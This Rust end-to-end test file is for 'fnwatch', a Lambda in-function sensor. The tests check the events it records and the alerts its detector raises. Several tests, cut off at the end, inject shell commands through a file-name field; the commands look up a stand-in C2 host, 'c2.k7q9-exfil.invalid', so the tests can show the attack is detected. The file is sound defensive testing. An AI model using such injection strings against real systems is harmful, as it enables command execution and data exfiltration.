//! The in-function sensor end to end: the real `fnwatch-sensor` extension and
//! a real Python runtime (`awslambdaric`, AWS's runtime interface client) with
//! the sensor's hook, running real handlers (`sensor_handlers/app.py`) under
//! a Lambda stand-in that follows AWS's Runtime, Extensions and Telemetry
//! APIs (`infra/local/lambda/standin.py`). What the extension prints is then
//! ingested, trained on and scored by `fnwatch` itself.

use std::collections::{HashMap, HashSet};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::common::{bin, count, fnwatch, query};
use crate::kinesis_harness::{Kinesalite, aws_env};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The extension binary, built beside `fnwatch` (`cargo build` of the
/// workspace, or `cargo build -p fnwatch-sensor`).
pub fn sensor_bin() -> PathBuf {
    let p = bin().with_file_name("fnwatch-sensor");
    assert!(
        p.exists(),
        "{} is missing: run `cargo build -p fnwatch-sensor` (the workspace's `cargo test --workspace` builds it)",
        p.display()
    );
    p
}

fn python() -> String {
    std::env::var("PYTHON").unwrap_or_else(|_| "python3".into())
}

fn need_awslambdaric() {
    let ok = Command::new(python())
        .args(["-c", "import awslambdaric.bootstrap"])
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        ok,
        "the Python runtime interface client is missing: run `bash infra/local/install-python-tools.sh`"
    );
}

/// One run of the stand-in.
pub struct Run {
    pub results: Vec<Value>,
    /// The extension's stdout: the events.
    pub stdout: PathBuf,
    pub events: Vec<Value>,
    pub stderr: String,
}

impl Run {
    pub fn invocations(&self) -> Vec<&Value> {
        self.results
            .iter()
            .filter(|r| r.get("request_id").is_some())
            .collect()
    }

    pub fn events_of(&self, ty: &str, rid: &str) -> Vec<&Value> {
        self.events
            .iter()
            .filter(|e| e["type"] == ty && e["request_id"] == rid)
            .collect()
    }

    pub fn invocation_event(&self, rid: &str) -> &Value {
        let v = self.events_of("invocation", rid);
        assert_eq!(
            v.len(),
            1,
            "one invocation event for {rid}: {v:?}\nstderr:\n{}",
            self.stderr
        );
        v[0]
    }
}

/// Runs `plan` against `app.<handler>` as function `function`.
pub fn standin(dir: &Path, function: &str, handler: &str, timeout_s: f64, plan: &[Value]) -> Run {
    standin_env(dir, function, handler, timeout_s, plan, &[])
}

/// [`standin`] with extra environment for the sandbox's processes.
pub fn standin_env(
    dir: &Path,
    function: &str,
    handler: &str,
    timeout_s: f64,
    plan: &[Value],
    env: &[(&str, &str)],
) -> Run {
    need_awslambdaric();
    standin_runtime(dir, function, handler, timeout_s, plan, env, None)
}

/// AWS's Node.js runtime client (aws-lambda-ric), installed outside the
/// repository by `infra/local/lambda/node-ric.sh` (when missing, now).
fn node_ric() -> String {
    let out = Command::new("bash")
        .arg(root().join("infra/local/lambda/node-ric.sh"))
        .arg("path")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "AWS's Node.js runtime client is missing and did not install: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// [`standin`] with AWS's Node.js runtime running `node_app.<handler>`.
pub fn standin_node(
    dir: &Path,
    function: &str,
    handler: &str,
    timeout_s: f64,
    plan: &[Value],
) -> Run {
    let ric = node_ric();
    standin_runtime(dir, function, handler, timeout_s, plan, &[], Some(&ric))
}

fn standin_runtime(
    dir: &Path,
    function: &str,
    handler: &str,
    timeout_s: f64,
    plan: &[Value],
    env: &[(&str, &str)],
    node_ric: Option<&str>,
) -> Run {
    // Node handlers: `node_app.<handler>`, or a module of their own.
    let module = match node_ric {
        Some(_) if handler.contains('.') => "",
        Some(_) => "node_app.",
        None => "app.",
    };
    let work = dir.join(format!("work-{function}"));
    std::fs::create_dir_all(&work).unwrap();
    let plan_path = work.join("plan.json");
    std::fs::write(&plan_path, serde_json::to_vec(plan).unwrap()).unwrap();
    let results = work.join("results.jsonl");
    let mut cmd = Command::new(python());
    cmd.arg(root().join("infra/local/lambda/standin.py"));
    if let Some(ric) = node_ric {
        cmd.args(["--node-ric", ric]);
    }
    let out = cmd
        .args(["--plan", plan_path.to_str().unwrap()])
        .args(["--results", results.to_str().unwrap()])
        .args(["--extension", sensor_bin().to_str().unwrap()])
        .args([
            "--task-dir",
            root().join("tests/e2e/sensor_handlers").to_str().unwrap(),
        ])
        .args(["--handler", &format!("{module}{handler}")])
        .args([
            "--wrapper",
            root()
                .join("sensor/hooks/fnwatch-wrapper")
                .to_str()
                .unwrap(),
        ])
        .args(["--timeout", &timeout_s.to_string()])
        .args(["--function", function])
        .args(["--work", work.to_str().unwrap()])
        .env("PYTHONDONTWRITEBYTECODE", "1")
        .envs(env.iter().copied())
        .output()
        .unwrap();
    let stderr = std::fs::read_to_string(work.join("extension-stderr.log")).unwrap_or_default();
    assert!(
        out.status.success(),
        "the stand-in failed: {}\n{}\nextension stderr:\n{stderr}\nruntime:\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr),
        std::fs::read_to_string(work.join("runtime.log")).unwrap_or_default()
    );
    let lines = |p: &Path| -> Vec<Value> {
        std::fs::read_to_string(p)
            .unwrap_or_default()
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
            .collect()
    };
    let stdout = work.join("extension-stdout.log");
    let run = Run {
        results: lines(&results),
        events: lines(&stdout),
        stdout,
        stderr,
    };
    for r in &run.results {
        if let Some(code) = r.get("extension_exit") {
            assert_eq!(code, 0, "the extension exited badly: {r}\n{}", run.stderr);
        }
    }
    run
}

/// A local HTTP server answering `200 ok` to everything, for the handlers to call.
fn http_server() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
        }
    });
    port
}

fn now_rfc3339() -> String {
    chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
}

#[test]
fn benign_invocations_arrive_with_their_request_ids_and_cpu() {
    let dir = tempfile::tempdir().unwrap();
    let port = http_server();
    let tmp = dir.path().join("orders.json");
    let burns = [0, 15, 40, 80, 150];
    let plan: Vec<Value> = (0..25)
        .map(|i| {
            json!({"label": format!("b{i}"), "invoke": {
                "url": format!("http://localhost:{port}/items/{i}"),
                "tmp": tmp.to_str().unwrap(),
                "burn_ms": burns[i % burns.len()],
            }})
        })
        .collect();
    let run = standin(dir.path(), "orders-api", "benign", 10.0, &plan);
    let invs = run.invocations();
    assert_eq!(invs.len(), 25, "{:?}", run.results);
    let mut worst = 0f64;
    for (i, r) in invs.iter().enumerate() {
        assert_eq!(r["status"], "success", "{r}");
        let rid = r["request_id"].as_str().unwrap();
        assert_eq!(
            r["response"]["request_id"], rid,
            "the handler saw the same request id"
        );
        let e = run.invocation_event(rid);
        assert_eq!(e["function"], "orders-api");
        assert_eq!(e["status"], "success");
        assert_eq!(e["account"], "123456789012");
        assert_eq!(e["region"], "us-east-1");
        assert_eq!(e["trigger"], "direct");
        assert_eq!(e["memory_mb"], 128);
        assert!(e["max_memory_mb"].as_i64().unwrap() > 0, "{e}");
        assert_eq!(
            e["init_ms"].is_null(),
            i != 0,
            "only the cold start has init_ms: {e}"
        );
        let measured = r["response"]["cpu_ms"].as_f64().unwrap();
        let cpu = e["cpu_ms"]
            .as_f64()
            .unwrap_or_else(|| panic!("no cpu_ms: {e}"));
        // The extension sees the whole runtime (event decoding, the response
        // post); the handler only its own part. Measured: within 1 ms on an
        // idle machine; the margin is for a loaded CI host.
        let diff = cpu - measured;
        worst = worst.max(diff.abs());
        assert!(
            (-4.0..=8.0).contains(&diff),
            "invocation {i}: the sensor says {cpu} ms of CPU, the handler measured {measured} ms"
        );
        // What the handler did, stamped with its request id.
        let dns = run.events_of("dns", rid);
        assert!(
            dns.iter()
                .any(|d| d["query"] == "localhost" && d["rcode"] == "NOERROR"),
            "{dns:?}"
        );
        let net = run.events_of("network", rid);
        assert!(
            net.iter()
                .any(|n| n["remote_port"] == port && n["remote_host"] == "localhost"),
            "{net:?}"
        );
        let files: HashSet<&str> = run
            .events_of("file", rid)
            .iter()
            .filter(|f| f["path"] == tmp.to_str().unwrap())
            .map(|f| f["op"].as_str().unwrap())
            .collect();
        assert!(
            files.contains("read") && (files.contains("write") || files.contains("create")),
            "{files:?}"
        );
    }
    eprintln!("cpu_ms: largest difference to the handler's own measure {worst:.2} ms");
    // No file event for the code bundle or the interpreter's own files.
    for e in &run.events {
        if e["type"] == "file" {
            let p = e["path"].as_str().unwrap();
            assert!(
                !p.contains("sensor_handlers") && !p.contains("site-packages"),
                "{e}"
            );
        }
    }
    // The events are contract v1.1: fnwatch ingests every one of them.
    let lake = dir.path().join("lake");
    fnwatch(&[
        "ingest",
        "--lake",
        lake.to_str().unwrap(),
        run.stdout.to_str().unwrap(),
    ])
    .ok();
    assert_eq!(
        query(&lake, "SELECT count(*) AS n FROM dead_letters")[0]["n"],
        0
    );
    assert_eq!(
        query(
            &lake,
            "SELECT count(DISTINCT request_id) AS n FROM invocations WHERE cpu_ms IS NOT NULL"
        )[0]["n"],
        25
    );
}

#[test]
fn a_python_child_reports_its_events_but_is_never_taken_for_the_runtime() {
    let dir = tempfile::tempdir().unwrap();
    let tmp = dir.path().join("child.txt");
    // Children that burn more CPU than their parent; every other one also
    // claims on the sensor's socket to be the runtime.
    let plan: Vec<Value> = (0..6)
        .map(|i| {
            json!({"label": format!("s{i}"), "invoke": {
                "tmp": tmp.to_str().unwrap(),
                "child": i % 3 != 2,
                "forge": i % 3 == 1,
                "child_burn_ms": 60,
                "burn_ms": 20,
            }})
        })
        .collect();
    let run = standin(dir.path(), "report-builder", "spawner", 10.0, &plan);
    let invs = run.invocations();
    assert_eq!(invs.len(), 6, "{:?}", run.results);
    for (i, r) in invs.iter().enumerate() {
        assert_eq!(r["status"], "success", "{r}");
        let rid = r["request_id"].as_str().unwrap();
        let e = run.invocation_event(rid);
        let measured = r["response"]["cpu_ms"].as_f64().unwrap();
        let cpu = e["cpu_ms"]
            .as_f64()
            .unwrap_or_else(|| panic!("invocation {i}: no cpu_ms (the runtime was lost): {e}"));
        // A child's CPU comes in clock ticks once it is reaped.
        assert!(
            (cpu - measured).abs() <= 25.0,
            "invocation {i}: the sensor says {cpu} ms of CPU, the handler and its child used {measured} ms"
        );
        if i % 3 != 2 {
            // The child's own events, stamped with the invocation that started it.
            assert!(
                run.events_of("dns", rid)
                    .iter()
                    .any(|d| d["query"] == "localhost"),
                "invocation {i}: {:?}",
                run.events_of("dns", rid)
            );
            assert!(
                run.events_of("file", rid)
                    .iter()
                    .any(|f| f["path"] == tmp.to_str().unwrap() && f["op"] != "read"),
                "invocation {i}: {:?}",
                run.events_of("file", rid)
            );
            assert!(
                run.events_of("process", rid)
                    .iter()
                    .any(|p| p["exe"].as_str().unwrap_or("").contains("python")),
                "invocation {i}"
            );
        }
    }
    // Only the two forged claims were false: the hooked children never
    // said they were the runtime.
    let last = run.invocation_event(invs[5]["request_id"].as_str().unwrap());
    assert_eq!(last["sensor"]["false_hellos"], 2, "{last}");
}

/// The plan of [`late_events_keep_the_invocation_they_were_sent_in`]'s runs.
fn late_plan(tmp: &Path) -> Vec<Value> {
    // Each late invocation's thread (or timer) and child write their files
    // 300 ms after it answered: for `a`, after its report, before the next
    // invocation; for `c`, while `d` runs. An event belongs to the
    // invocation current when it was sent.
    let late = |label: &str| json!({"label": label, "invoke": {"late": true, "late_ms": 300, "tmp": tmp.to_str().unwrap()}});
    let plain = |label: &str| json!({"label": label, "invoke": {"sleep_s": 0.01}});
    vec![
        late("a"),
        json!({"sleep_ms": 600}),
        plain("b"),
        late("c"),
        json!({"sleep_ms": 100}),
        json!({"label": "d", "invoke": {"sleep_s": 0.5}}),
        json!({"sleep_ms": 300}),
        plain("e"),
    ]
}

fn late_events_keep_the_invocation_they_were_sent_in(run: &Run, tmp: &Path) {
    let invs = run.invocations();
    assert_eq!(invs.len(), 5, "{:?}", run.results);
    for r in &invs {
        assert_eq!(r["status"], "success", "{r}");
    }
    let rid_of = |label: &str| {
        invs.iter().find(|r| r["label"] == label).unwrap()["request_id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    for (label, sent_in) in [("a", "a"), ("c", "d")] {
        let rid = rid_of(label);
        let want = rid_of(sent_in);
        for who in ["thread", "child"] {
            let path = format!("{}-{rid}-{who}", tmp.to_str().unwrap());
            let seen: Vec<&Value> = run
                .events
                .iter()
                .filter(|e| e["type"] == "file" && e["path"] == path.as_str())
                .collect();
            assert_eq!(seen.len(), 1, "{label} {who}: {seen:?}");
            assert_eq!(
                seen[0]["request_id"],
                want.as_str(),
                "{label}: the {who}'s late event is stamped with {sent_in}, when it was sent"
            );
        }
    }
}

#[test]
fn events_sent_after_their_invocation_closed_keep_its_request_id() {
    let dir = tempfile::tempdir().unwrap();
    let tmp = dir.path().join("late");
    let run = standin(dir.path(), "notifier", "late", 10.0, &late_plan(&tmp));
    late_events_keep_the_invocation_they_were_sent_in(&run, &tmp);
}

#[test]
fn node_events_sent_after_their_invocation_closed_keep_its_request_id() {
    let dir = tempfile::tempdir().unwrap();
    let tmp = dir.path().join("late");
    let run = standin_node(dir.path(), "notifier-node", "late", 10.0, &late_plan(&tmp));
    late_events_keep_the_invocation_they_were_sent_in(&run, &tmp);
}

#[test]
fn garbage_on_the_socket_is_counted_and_the_extension_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let plan = vec![
        json!({"label": "before", "invoke": {"sleep_s": 0.01}}),
        json!({"label": "garbage", "invoke": {"garbage": true}}),
        json!({"label": "after", "invoke": {"sleep_s": 0.01}}),
    ];
    // The garbage handler is `garbage`; the others share the module.
    let run = standin(dir.path(), "media-worker", "garbage", 10.0, &plan);
    let invs = run.invocations();
    assert_eq!(invs.len(), 3);
    // Lines sent, as the extension splits datagrams.
    let sent = invs[1]["response"]["sent"].as_u64().unwrap();
    assert!(sent > 200, "{}", invs[1]);
    for r in &invs {
        assert_eq!(r["status"], "success", "{r}");
        run.invocation_event(r["request_id"].as_str().unwrap());
    }
    let last = run.invocation_event(invs[2]["request_id"].as_str().unwrap());
    let s = &last["sensor"];
    assert_eq!(
        s["rejected_messages"], sent,
        "every bad message is counted once: {s}"
    );
    let by: &serde_json::Map<String, Value> = s["rejected_by_reason"].as_object().unwrap();
    for reason in ["not_json", "not_object", "unknown_type", "bad_field"] {
        assert!(
            by.get(reason).and_then(Value::as_u64).unwrap_or(0) > 0,
            "{reason}: {s}"
        );
    }
    assert!(run.stderr.contains("stats at shutdown"), "{}", run.stderr);
}

#[test]
fn a_crash_and_a_sandbox_gone_mid_invocation_are_still_reported() {
    let dir = tempfile::tempdir().unwrap();
    let tmp = dir.path().join("crash.txt");
    let plan = vec![
        json!({"label": "crash", "invoke": {"tmp": tmp.to_str().unwrap(), "crash": true}}),
        json!({"label": "gone", "invoke": {"tmp": tmp.to_str().unwrap(), "sleep_s": 5}, "shutdown_after_ms": 300}),
    ];
    let run = standin(dir.path(), "crashy", "crash", 10.0, &plan);
    let invs = run.invocations();
    let crash = invs.iter().find(|r| r["label"] == "crash").unwrap();
    assert_eq!(crash["status"], "failure");
    let rid = crash["request_id"].as_str().unwrap();
    let e = run.invocation_event(rid);
    assert_eq!(e["status"], "crash", "{e}");
    assert_eq!(e["error_type"], "Runtime.ExitError");
    assert!(
        run.events_of("file", rid)
            .iter()
            .any(|f| f["path"] == tmp.to_str().unwrap()),
        "what the handler did before it died is kept"
    );
    let gone = invs.iter().find(|r| r["label"] == "gone").unwrap();
    let e = run.invocation_event(gone["request_id"].as_str().unwrap());
    assert_eq!(e["sensor_incomplete"], true, "{e}");
    assert_eq!(
        run.events
            .iter()
            .filter(|e| e["type"] == "invocation")
            .count(),
        2
    );
}

fn alerts_of(lake: &Path, from: &str, to: &str, dir: &Path) -> Vec<Value> {
    let out = dir.join(format!("alerts-{}.jsonl", from.replace(':', "")));
    crate::common::detect_alerts(lake, from, to, &[], &out)
}

#[test]
fn detect_flags_exactly_the_exploited_and_the_sleeping_invocations() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_path_buf();
    let start = now_rfc3339();
    // Training: normal use of both functions.
    let mut thumbs: Vec<Value> = (0..40)
        .map(|i| json!({"label": "train", "invoke": {"file": format!("photo-{i}.png")}}))
        .collect();
    let mut sleeps: Vec<Value> = (0..40)
        .map(|_| json!({"label": "train", "invoke": {"sleep_s": 0.01}}))
        .collect();
    let split_marker = json!({"sleep_ms": 1500});
    thumbs.push(split_marker.clone());
    sleeps.push(split_marker);
    // Scoring: more normal use, and one exploit each.
    for i in 0..5 {
        thumbs.push(json!({"label": "test", "invoke": {"file": format!("holiday-{i}.png")}}));
        sleeps.push(json!({"label": "test", "invoke": {"sleep_s": 0.01}}));
    }
    thumbs.push(json!({"label": "attack", "invoke": {
        "file": "x.png; python3 -c \"import socket; socket.getaddrinfo('c2.k7q9-exfil.invalid', 443)\"; #"
    }}));
    sleeps.push(json!({"label": "attack", "invoke": {"sleep_s": 30}}));
    let d2 = d.clone();
    let t = std::thread::spawn(move || standin(&d2, "thumbnailer", "thumbnail", 10.0, &thumbs));
    let s = standin(&d, "session-keeper", "sleeper", 2.0, &sleeps);
    let t = t.join().unwrap();
    let end = now_rfc3339();

    let attack = |run: &Run| -> String {
        let r = run
            .invocations()
            .into_iter()
            .find(|r| r["label"] == "attack")
            .unwrap()
            .clone();
        r["request_id"].as_str().unwrap().to_string()
    };
    let (t_attack, s_attack) = (attack(&t), attack(&s));
    let first_test = |run: &Run| -> String {
        let rid = run
            .invocations()
            .into_iter()
            .find(|r| r["label"] == "test")
            .unwrap()["request_id"]
            .as_str()
            .unwrap()
            .to_string();
        run.invocation_event(&rid)["time"]
            .as_str()
            .unwrap()
            .to_string()
    };
    // The scoring window opens at the first scored invocation of either function.
    let split = first_test(&t).min(first_test(&s));
    let split = (chrono::DateTime::parse_from_rfc3339(&split).unwrap()
        - chrono::Duration::milliseconds(500))
    .to_rfc3339_opts(chrono::SecondsFormat::Millis, true);

    // The sleeping invocation: a timeout with almost no CPU.
    let e = s.invocation_event(&s_attack);
    assert_eq!(e["status"], "timeout", "{e}");
    assert!(e["cpu_ms"].as_f64().unwrap() < 20.0, "{e}");
    assert_eq!(e["timeout_ms"], 2000, "{e}");
    // The exploit: the shell and the lookup the injected command made.
    let procs = t.events_of("process", &t_attack);
    assert!(procs.iter().any(|p| p["exe"] == "/bin/sh"), "{procs:?}");
    assert!(
        t.events_of("dns", &t_attack)
            .iter()
            .any(|d| d["query"] == "c2.k7q9-exfil.invalid"),
        "the lookup of the injected child process: {:?}",
        t.events_of("dns", &t_attack)
    );

    let lake = d.join("lake");
    fnwatch(&[
        "ingest",
        "--lake",
        lake.to_str().unwrap(),
        t.stdout.to_str().unwrap(),
        s.stdout.to_str().unwrap(),
    ])
    .ok();
    assert_eq!(
        query(&lake, "SELECT count(*) AS n FROM dead_letters")[0]["n"],
        0
    );
    fnwatch(&[
        "train",
        "--lake",
        lake.to_str().unwrap(),
        "--from",
        &start,
        "--to",
        &split,
    ])
    .ok();
    let alerts = alerts_of(&lake, &split, &end, &d);
    let serious: Vec<&Value> = alerts
        .iter()
        .filter(|a| ["medium", "high", "critical"].contains(&a["severity"].as_str().unwrap_or("")))
        .collect();
    let flagged: HashMap<&str, Vec<&str>> = serious.iter().fold(HashMap::new(), |mut m, a| {
        m.entry(a["request_id"].as_str().unwrap_or("-"))
            .or_default()
            .push(a["kind"].as_str().unwrap_or("?"));
        m
    });
    let want: HashSet<&str> = [t_attack.as_str(), s_attack.as_str()].into();
    let got: HashSet<&str> = flagged.keys().copied().collect();
    assert_eq!(got, want, "alerts: {serious:#?}");
    assert!(
        flagged[s_attack.as_str()].contains(&"sleep_timeout"),
        "{flagged:?}"
    );
}

#[test]
fn through_kinesis_every_invocation_reaches_the_lake() {
    let dir = tempfile::tempdir().unwrap();
    let kdir = dir.path().join("kinesalite");
    std::fs::create_dir_all(&kdir).unwrap();
    let k = Kinesalite::start(&kdir, false);
    k.create_stream("telemetry", 1);
    let endpoint = k.endpoint();
    let mut env = aws_env();
    env.push(("FNWATCH_SENSOR_STREAM", "telemetry"));
    env.push(("AWS_ENDPOINT_URL_KINESIS", &endpoint));
    let mut plan: Vec<Value> = (0..10)
        .map(|i| json!({"label": "benign", "invoke": {"file": format!("scan-{i}.png")}}))
        .collect();
    plan.push(json!({"label": "attack", "invoke": {
        "file": "x.png; python3 -c \"import socket; socket.getaddrinfo('c2.k7q9-exfil.invalid', 443)\"; #"
    }}));
    let run = standin_env(dir.path(), "thumbnailer", "thumbnail", 10.0, &plan, &env);
    assert!(
        run.events.is_empty(),
        "with a stream, nothing goes to stdout"
    );
    assert!(k.count("telemetry") > 0);

    let lake = dir.path().join("lake");
    let log = dir.path().join("worker.log");
    let mut worker = Command::new(bin())
        .args([
            "ingest",
            "--lake",
            lake.to_str().unwrap(),
            "--kinesis",
            "telemetry",
        ])
        .args(["--endpoint-url", &endpoint, "--region", "us-east-1"])
        .args([
            "--flush-interval",
            "500ms",
            "--idle-poll",
            "100ms",
            "--metrics-addr",
            "127.0.0.1:0",
        ])
        .envs(aws_env())
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let want: HashSet<String> = run
        .invocations()
        .iter()
        .map(|r| r["request_id"].as_str().unwrap().to_string())
        .collect();
    let started = std::time::Instant::now();
    let mut got = HashSet::new();
    while started.elapsed() < std::time::Duration::from_secs(90) {
        if lake.join("events").exists()
            && count(
                &lake,
                "SELECT count(DISTINCT request_id) AS n FROM invocations",
            ) as usize
                >= want.len()
        {
            got = query(&lake, "SELECT DISTINCT request_id FROM invocations")
                .iter()
                .filter_map(|r| r["request_id"].as_str().map(str::to_string))
                .collect();
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(500));
    }
    Command::new("kill")
        .args(["-TERM", &worker.id().to_string()])
        .status()
        .unwrap();
    let _ = worker.wait();
    assert_eq!(
        got,
        want,
        "worker log:\n{}",
        std::fs::read_to_string(&log).unwrap_or_default()
    );
    let attack = run
        .invocations()
        .into_iter()
        .find(|r| r["label"] == "attack")
        .unwrap()["request_id"]
        .as_str()
        .unwrap()
        .to_string();
    let dns = query(
        &lake,
        &format!(
            "SELECT query FROM dns WHERE request_id = '{attack}' AND function = 'thumbnailer'"
        ),
    );
    assert!(
        dns.iter().any(|r| r["query"] == "c2.k7q9-exfil.invalid"),
        "{dns:?}"
    );
    assert_eq!(
        query(&lake, "SELECT count(*) AS n FROM dead_letters")[0]["n"],
        0
    );
}

#[test]
fn sensor_package_builds_the_layer_zip() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("dist");
    let run = fnwatch(&[
        "sensor",
        "package",
        "--out",
        out.to_str().unwrap(),
        "--extension",
        sensor_bin().to_str().unwrap(),
    ])
    .ok();
    assert!(
        run.stdout.contains("fnwatch-sensor-layer.zip"),
        "{}",
        run.stdout
    );
    let zip = out.join("fnwatch-sensor-layer.zip");
    // Read back by an independent reader (Python's zipfile): names, modes, bytes.
    let listing = Command::new(python())
        .args([
            "-c",
            "import json,sys,zipfile\nz=zipfile.ZipFile(sys.argv[1])\nassert z.testzip() is None\n\
             print(json.dumps({i.filename: [oct(i.external_attr >> 16 & 0o777), i.file_size] for i in z.infolist()}))",
            zip.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(
        listing.status.success(),
        "{}",
        String::from_utf8_lossy(&listing.stderr)
    );
    let v: Value = serde_json::from_slice(&listing.stdout).unwrap();
    let ext_len = std::fs::metadata(sensor_bin()).unwrap().len();
    assert_eq!(
        v["extensions/fnwatch-sensor"],
        json!(["0o755", ext_len]),
        "{v}"
    );
    assert_eq!(v["fnwatch/fnwatch-wrapper"][0], "0o755", "{v}");
    let hook = std::fs::read(root().join("sensor/hooks/python/fnwatch_hook.py")).unwrap();
    assert_eq!(
        v["fnwatch/python/fnwatch_hook.py"],
        json!(["0o644", hook.len()]),
        "{v}"
    );
    assert!(v.get("fnwatch/python/sitecustomize.py").is_some(), "{v}");
    let node_hook = std::fs::read(root().join("sensor/hooks/node/fnwatch_hook.cjs")).unwrap();
    assert_eq!(
        v["fnwatch/node/fnwatch_hook.cjs"],
        json!(["0o644", node_hook.len()]),
        "{v}"
    );
    // The same inputs give the same bytes (the same layer hash in Lambda).
    let first = std::fs::read(&zip).unwrap();
    fnwatch(&[
        "sensor",
        "package",
        "--out",
        out.to_str().unwrap(),
        "--extension",
        sensor_bin().to_str().unwrap(),
    ])
    .ok();
    assert!(
        std::fs::read(&zip).unwrap() == first,
        "a rebuilt layer differs"
    );
    // Not an executable: a clear error, nothing written.
    let bad = dir.path().join("not-a-binary");
    std::fs::write(&bad, "#!/bin/sh\n").unwrap();
    let out2 = dir.path().join("dist2");
    let r = fnwatch(&[
        "sensor",
        "package",
        "--out",
        out2.to_str().unwrap(),
        "--extension",
        bad.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("not a Linux executable") && r.stderr.contains("not-a-binary"),
        "{}",
        r.stderr
    );
    assert!(!out2.join("fnwatch-sensor-layer.zip").exists());
}

// ---- Node.js: AWS's runtime client (aws-lambda-ric) with the Node.js hook ----

#[test]
fn node_benign_invocations_arrive_with_their_request_ids_and_cpu() {
    let dir = tempfile::tempdir().unwrap();
    let port = http_server();
    let tmp = dir.path().join("carts.json");
    let burns = [0, 15, 40];
    let plan: Vec<Value> = (0..12)
        .map(|i| {
            json!({"label": format!("b{i}"), "invoke": {
                "url": format!("http://localhost:{port}/carts/{i}"),
                "tmp": tmp.to_str().unwrap(),
                "burn_ms": burns[i % burns.len()],
            }})
        })
        .collect();
    let run = standin_node(dir.path(), "carts-api", "benign", 10.0, &plan);
    let invs = run.invocations();
    assert_eq!(invs.len(), 12, "{:?}", run.results);
    for (i, r) in invs.iter().enumerate() {
        assert_eq!(r["status"], "success", "{r}");
        let rid = r["request_id"].as_str().unwrap();
        assert_eq!(
            r["response"]["request_id"], rid,
            "the handler saw the same request id"
        );
        let e = run.invocation_event(rid);
        assert_eq!(e["function"], "carts-api");
        assert_eq!(e["status"], "success");
        assert_eq!(e["account"], "123456789012");
        // The sample of the triggering event, from the runtime client's own
        // read of the Runtime API.
        assert_eq!(e["trigger"], "direct", "{e}");
        assert!(
            e["event"]
                .as_str()
                .is_some_and(|s| s.contains(&format!("/carts/{i}"))),
            "{e}"
        );
        assert_eq!(
            e["init_ms"].is_null(),
            i != 0,
            "only the cold start has init_ms: {e}"
        );
        let measured = r["response"]["cpu_ms"].as_f64().unwrap();
        let cpu = e["cpu_ms"]
            .as_f64()
            .unwrap_or_else(|| panic!("no cpu_ms: {e}"));
        // The extension sees the whole runtime (its event loop, the response
        // post); the handler only its own part.
        let diff = cpu - measured;
        assert!(
            (-4.0..=15.0).contains(&diff),
            "invocation {i}: the sensor says {cpu} ms of CPU, the handler measured {measured} ms"
        );
        let dns = run.events_of("dns", rid);
        assert!(
            dns.iter().any(|d| d["query"] == "localhost"
                && d["rcode"] == "NOERROR"
                && d["answers"].as_array().is_some_and(|a| !a.is_empty())),
            "{dns:?}"
        );
        let net = run.events_of("network", rid);
        assert!(
            net.iter().any(|n| n["remote_port"] == port
                && n["remote_host"] == "localhost"
                && n["protocol"] == "tcp"),
            "{net:?}"
        );
        let files: HashSet<&str> = run
            .events_of("file", rid)
            .iter()
            .filter(|f| f["path"] == tmp.to_str().unwrap())
            .map(|f| f["op"].as_str().unwrap())
            .collect();
        assert!(
            files.contains("read") && (files.contains("write") || files.contains("create")),
            "{files:?}"
        );
    }
    // No file event for the code bundle, the runtime client or Node's own
    // files, no connection to the Runtime API.
    for e in &run.events {
        if e["type"] == "file" {
            let p = e["path"].as_str().unwrap();
            assert!(
                !p.contains("sensor_handlers") && !p.contains("node_modules"),
                "{e}"
            );
        }
        if e["type"] == "network" {
            assert_eq!(e["remote_port"], port, "{e}");
        }
    }
    let last = run.invocation_event(invs[11]["request_id"].as_str().unwrap());
    assert_eq!(last["sensor"]["hook_dropped"], 0, "{last}");
    assert_eq!(last["sensor"]["rejected_messages"], 0, "{last}");
    let lake = dir.path().join("lake");
    fnwatch(&[
        "ingest",
        "--lake",
        lake.to_str().unwrap(),
        run.stdout.to_str().unwrap(),
    ])
    .ok();
    assert_eq!(
        query(&lake, "SELECT count(*) AS n FROM dead_letters")[0]["n"],
        0
    );
    assert_eq!(
        query(
            &lake,
            "SELECT count(DISTINCT request_id) AS n FROM invocations WHERE cpu_ms IS NOT NULL"
        )[0]["n"],
        12
    );
}

#[test]
fn node_command_injection_is_flagged_by_detect() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_path_buf();
    let start = now_rfc3339();
    let mut plan: Vec<Value> = (0..40)
        .map(|i| json!({"label": "train", "invoke": {"file": format!("avatar-{i}.png")}}))
        .collect();
    plan.push(json!({"sleep_ms": 1500}));
    for i in 0..5 {
        plan.push(json!({"label": "test", "invoke": {"file": format!("banner-{i}.png")}}));
    }
    plan.push(json!({"label": "attack", "invoke": {
        "file": "x.png; node -e \"require('dns').lookup('c2.k7q9-exfil.invalid', () => {})\"; #"
    }}));
    let run = standin_node(&d, "avatar-resizer", "thumbnail", 10.0, &plan);
    let end = now_rfc3339();
    let invs = run.invocations();
    assert!(invs.iter().all(|r| r["status"] == "success"), "{invs:?}");
